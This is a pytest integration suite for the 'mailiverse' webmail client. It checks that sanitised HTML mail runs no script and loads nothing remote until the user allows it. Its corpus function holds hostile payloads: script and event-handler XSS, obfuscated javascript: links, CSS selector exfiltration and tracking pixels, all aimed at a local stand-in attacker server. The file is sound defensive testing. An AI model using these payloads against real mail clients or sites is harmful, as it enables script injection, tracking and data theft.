"""Hostile HTML mail rendered by the client executes nothing and loads nothing remote: the test watches
dialogs, console, every network request and a local "attacker" server that records any hit."""

from __future__ import annotations

import http.server
import ssl
import threading
import time
from collections.abc import Iterator
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import load_der_public_key
from sqlalchemy import create_engine

from mailiverse.crypto.formats import seal_mail_object
from mailiverse.mime.twin import convert
from mailiverse.store.objects import put_object_txn
from mailiverse.store.users import get_user_txn
from tests.support.browser import base_url, check_mail, html_mail, new_page, row, signup, smtp_send, wait_until
from tests.support.harness import DOMAIN, Appliance, self_signed_cert

pytestmark = pytest.mark.integration


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def _hit(self) -> None:
        type(self).hits.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    do_GET = do_POST = do_HEAD = _hit  # noqa: N815

    def send_error(self, code: int, message: str | None = None, explain: str | None = None) -> None:
        # A TLS handshake (an https: URL pointed at this plain server) lands here: it is a hit too.
        type(self).hits.append(f"unparsed request ({code})")
        super().send_error(code, message, explain)

    def log_message(self, *args: Any) -> None:
        return


@pytest.fixture(scope="module")
def attacker() -> Iterator[str]:
    """An HTTP server on 127.0.0.1 standing in for the attacker's site; it records every request."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()


def corpus(evil: str) -> dict[str, str]:
    """Subject -> HTML body. Each tries to run script or reach the attacker's server."""
    return {
        "H1 script": f"""<script>alert('s1');console.log('PWNED script')</script>
            <script src="http://{evil}/script.js"></script><img src="x" onerror="alert('s2')">
            <p>script mail</p>""",
        "H2 handlers": """<body onload="alert('h1')"><svg onload="alert('h2')"></svg>
            <details open ontoggle="alert('h3')"><summary>x</summary></details>
            <div id="hover" onmouseover="alert('h4')" onclick="alert('h5')">hover me</div>
            <img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="alert('h6')"></body>""",
        "H3 javascript links": f"""<a id="js1" href="javascript:alert('j1')">one</a>
            <a id="js2" href=" jav&#x09;ascript:alert('j2')">two</a>
            <iframe src="javascript:alert('j3')"></iframe><a id="vb" href="vbscript:msgbox(1)">vb</a>
            <a id="data" href="data:text/html,<script>alert('j4')</script>">data</a>
            <a id="ok" href="http://{evil}/clicked">plain link</a>""",
        "H4 css exfiltration": f"""<style>@import url(http://{evil}/import.css);
            body {{ background: url(http://{evil}/css-bg.png); }}
            input[value^="s"] {{ background-image: url("http://{evil}/leak-s"); }}
            @font-face {{ font-family: x; src: url(http://{evil}/font.woff); }}
            p.c {{ color: rgb(4, 5, 6); font-family: x; }}</style>
            <input value="secret"><p class="c" id="styled" style="background:url('//{evil}/inline.png')">css</p>""",
        "H5 remote images": f"""<img id="pic" src="http://{evil}/pixel.png" width="1" height="1">
            <img srcset="http://{evil}/srcset.png 1x"><picture><source srcset="http://{evil}/source.png"></picture>
            <video poster="http://{evil}/poster.png"></video><audio src="http://{evil}/audio.mp3"></audio>
            <table background="http://{evil}/table.png"><tr><td>t</td></tr></table>
            <link rel="stylesheet" href="http://{evil}/style.css"><link rel="prefetch" href="http://{evil}/prefetch">
            <object data="http://{evil}/object"></object><embed src="http://{evil}/embed">
            <iframe src="http://{evil}/frame"></iframe><base href="http://{evil}/base/"><img src="relative.png">
            <img src="https://{evil}/tls.png"><div style="background:url(https://{evil}/tls-bg.png)">x</div>""",
        "H6 forms": f"""<form action="http://{evil}/form" method="post"><input name="q" value="secret">
            <button id="go" type="submit">Go</button></form>
            <button form="f2" formaction="http://{evil}/formaction">other</button>""",
        "H7 meta refresh": f"""<html><head><meta http-equiv="refresh" content="0;url=http://{evil}/refresh">
            <meta http-equiv="Content-Security-Policy" content="default-src *"></head><body>refresh</body></html>""",
    }


def watch_network(page: Any) -> list[str]:
    """Every URL the page asks for, seen through Playwright and CDP. Chromium runs sandboxed frames
    in their own process, whose requests neither sees: the attacker server's own log is the ground truth."""
    seen: list[str] = []
    cdp = page.context.new_cdp_session(page)
    cdp.on("Network.requestWillBeSent", lambda e: seen.append(e["request"]["url"]))
    cdp.send("Network.enable")
    page.on("request", lambda r: seen.append(r.url))
    return seen


def test_hostile_corpus_runs_nothing_and_loads_nothing(browser: Any, appliance: Appliance, attacker: str) -> None:
    """Opening every hostile mail (and clicking in it) gives no dialog, no script, no request off the appliance."""
    page = new_page(browser, appliance)
    origin = base_url(appliance)
    dialogs: list[str] = []
    console: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("console", lambda m: console.append(m.text))
    seen = watch_network(page)
    signup(page, "victim")
    mails = corpus(attacker)
    for subject, html in mails.items():
        smtp_send(appliance, f"victim@{DOMAIN}", html_mail(subject, html))
    check_mail(page)
    for subject in mails:
        row(page, subject).click()
        page.wait_for_selector("#reader iframe.mail-frame")
        frame_el = page.locator("#reader iframe.mail-frame")
        assert "allow-scripts" not in (frame_el.get_attribute("sandbox") or "x allow-scripts")
        assert "allow-same-origin" not in (frame_el.get_attribute("sandbox") or "")
        frame = page.frame_locator("#reader iframe.mail-frame")
        frame.locator("body").wait_for()
        # Ids survive only where the twin was not made safe (the stored twin's safe HTML drops them and
        # every hostile attribute): then the hostile elements are clicked too.
        for target in ("#hover", "#js1", "#js2", "#vb", "#data", "#go"):
            if frame.locator(target).count():
                frame.locator(target).click(force=True, timeout=5000, no_wait_after=True)
        page.wait_for_timeout(300)
    page.wait_for_timeout(1000)
    assert dialogs == []
    assert not [m for m in console if "PWNED" in m]
    assert _Recorder.hits == []
    assert [u for u in seen if not u.startswith((origin + "/", "data:", "blob:", "about:"))] == []
    assert page.url == origin + "/"
    page.context.close()


def test_remote_content_only_after_the_user_allows_it_for_that_message(
    browser: Any, appliance: Appliance, attacker: str
) -> None:
    """The banner counts blocked loads; allowing one message lets its images load, the next message stays blocked."""
    page = new_page(browser, appliance)
    seen = watch_network(page)
    _Recorder.hits.clear()
    signup(page, "viewer")
    smtp_send(
        appliance, f"viewer@{DOMAIN}", html_mail("Newsletter", f'<p>news</p><img src="https://{attacker}/n.png">')
    )
    smtp_send(appliance, f"viewer@{DOMAIN}", html_mail("Other news", f'<img src="https://{attacker}/o.png">'))
    check_mail(page)
    row(page, "Newsletter").click()
    banner = page.locator("#reader .banner")
    assert "Remote content (1) was blocked" in banner.inner_text()
    page.wait_for_timeout(500)
    assert [u for u in seen if attacker in u] == [] and _Recorder.hits == []
    page.click("#allow-remote")
    page.wait_for_timeout(1000)
    assert _Recorder.hits, "the allowed image was not requested"
    page.wait_for_timeout(1000)
    after_allow = len(_Recorder.hits)
    row(page, "Other news").click()
    page.wait_for_selector("#reader .banner")
    page.wait_for_timeout(1000)
    # Chromium may report the allowed n.png through CDP; the other message's image must not appear anywhere.
    assert len(_Recorder.hits) == after_allow
    assert [u for u in seen if attacker in u and not u.endswith("/n.png")] == []
    page.context.close()


def test_inline_mail_styles_apply_inside_the_frame(browser: Any, appliance: Appliance) -> None:
    """Inline styling (style attributes) still renders inside the locked-down frame; a style element does
    not: the stored twin's safe HTML drops it (a stylesheet can fetch from anywhere; docs/protocol.md)."""
    page = new_page(browser, appliance)
    signup(page, "styled")
    smtp_send(
        appliance,
        f"styled@{DOMAIN}",
        html_mail(
            "Styled",
            '<style>.c { color: rgb(4, 5, 6); }</style><p class="c">first</p><p style="color: rgb(7, 8, 9)">second</p>',
        ),
    )
    check_mail(page)
    row(page, "Styled").click()
    frame = page.frame_locator("#reader iframe.mail-frame")
    assert frame.locator("p", has_text="second").evaluate("e => getComputedStyle(e).color") == "rgb(7, 8, 9)"
    assert frame.locator("p", has_text="first").evaluate("e => getComputedStyle(e).color") != "rgb(4, 5, 6)"
    assert frame.locator("style").count() == 0
    page.context.close()


class _TlsRecorder(_Recorder):
    hits: list[str] = []


@pytest.fixture
def tls_attacker(appliance: Appliance) -> Iterator[str]:
    """The attacker's site over HTTPS (the appliance's self-signed pair, which the test browser accepts), so
    that every request it records names its path: a remote image loads over https: or not at all."""
    cert = self_signed_cert(appliance)
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(cert, cert.with_suffix(".key"))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _TlsRecorder)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()


def _store_safe_twin(app: Appliance, user: str, raw: bytes) -> bytes:
    """Put the twin ``convert(raw, safe_html=True)`` into ``user``'s inbox, sealed as delivery seals it."""
    now = int(time.time() * 1000)
    twin = convert(raw, original_path=f"Mail/In/{now}_1", written_ms=now, safe_html=True)
    engine = create_engine(f"sqlite:///{app.data_dir / 'mailiverse.sqlite3'}")
    with engine.begin() as conn:
        account = get_user_txn(conn, user)
        assert account is not None
        public = load_der_public_key(account.public_key)
        assert isinstance(public, rsa.RSAPublicKey)
        put_object_txn(conn, account.id, f"Mail/In_Json/{now}_1", seal_mail_object("v2", public, twin), now_ms=now)
    engine.dispose()
    return twin


def test_a_twin_made_safe_loads_remote_images_only_after_the_click(
    browser: Any, appliance: Appliance, tls_attacker: str
) -> None:
    """A sanitised twin's data-mv-remote-src/srcset request nothing until "Show remote content" is clicked."""
    page = new_page(browser, appliance)
    seen = watch_network(page)
    signup(page, "safetwin")
    html = (
        f'<p>safe twin</p><img src="https://{tls_attacker}/safe-src.png" onerror="alert(1)">'
        f'<img srcset="https://{tls_attacker}/safe-srcset.png 1x">'
    )
    twin = _store_safe_twin(appliance, "safetwin", html_mail("Safe twin", html).as_bytes())
    assert twin.count(b"data-mv-remote-src") == 2 and b'"safe":{"remote":2' in twin
    check_mail(page)
    row(page, "Safe twin").click()
    assert "Remote content (2) was blocked" in page.locator("#reader .banner").inner_text()
    assert "safe twin" in page.frame_locator("#reader iframe.mail-frame").locator("body").inner_text()
    page.wait_for_timeout(1000)
    assert _TlsRecorder.hits == [] and [u for u in seen if tls_attacker in u] == []
    page.click("#allow-remote")
    wait_until(page, lambda: len(set(_TlsRecorder.hits)) >= 2, 10.0)
    assert set(_TlsRecorder.hits) == {"GET /safe-src.png", "GET /safe-srcset.png"}
    page.context.close()
